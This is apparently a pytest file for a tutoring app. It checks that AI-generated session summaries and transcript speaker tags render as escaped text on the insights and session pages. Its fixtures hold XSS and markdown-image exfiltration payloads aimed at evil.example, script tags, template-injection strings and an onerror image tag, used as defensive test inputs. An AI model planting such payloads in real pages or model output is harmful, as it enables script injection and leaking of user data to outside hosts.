"""Threat 42: a summary that is used as markup. The words of the model are shown as text, and no page calls out."""

from datetime import datetime

import pytest

from loops.session_intelligence.models import SessionPipeline
from tests.factories import browser, parent_of, person
from tests.loops.session_intelligence.sessions import logged_session, loop_row
from viral_engine.accounts.models import User
from viral_engine.learning.models import Subject, TutoringSession
from viral_engine.learning.services.tutoring import record_summary

pytestmark = pytest.mark.django_db
ATTACKS = (
    "![x](http://evil.example/?q=secret)",
    "<img src=http://evil.example/x>",
    "<script>alert(1)</script>",
    "[link](http://evil.example)",
    "{{ request.user }}{% now 'Y' %}",
)


def stored_summary(session: TutoringSession, at: datetime) -> None:
    """A summary that reached the database without the second look, as if a release had forgotten it."""
    items = [{"text": text, "cues": [1], "skill": "", "concept": "", "on": ""} for text in ATTACKS]
    summary = {"skill_gaps": items, "breakthroughs": items, "session_quality": 3, "student_engagement": "low"}
    assert record_summary(session_id=session.pk, summary=summary, at=at)
    SessionPipeline.objects.create(session=session, stage="delivered", received_at=at, delivered_at=at)


def test_every_reader_gets_text(math: Subject, at: datetime) -> None:
    loop_row()
    ada = person("Ada")
    grace = parent_of(ada, at=at)
    session = logged_session(at, math, student=ada)
    stored_summary(session, at)
    readers: list[User] = [session.tutor, ada, grace]
    for reader in readers:
        response = browser(reader).get(f"/sessions/{session.pk}/insights/")
        page = response.content.decode()
        assert "<img" not in page
        assert "<script" not in page
        assert 'href="http' not in page
        assert "&lt;script&gt;" in page
        assert "img-src 'self'" in response["Content-Security-Policy"]


def test_speakers_and_words_of_a_transcript_are_text(math: Subject, at: datetime) -> None:
    voice = "<v Toni<img src=x onerror=alert(1)>>&lt;script&gt;alert(1)&lt;/script&gt; fractions"
    text = f"WEBVTT\n\n00:01.000 --> 00:02.000\n{voice}"
    session = logged_session(at, math, transcript=text)
    page = browser(session.tutor).get(f"/sessions/{session.pk}/").content.decode()
    transcript = page.split("transcript cues")[1].split("</ol>")[0]
    assert "<script" not in transcript
    assert "<img" not in transcript
    assert "fractions" in transcript
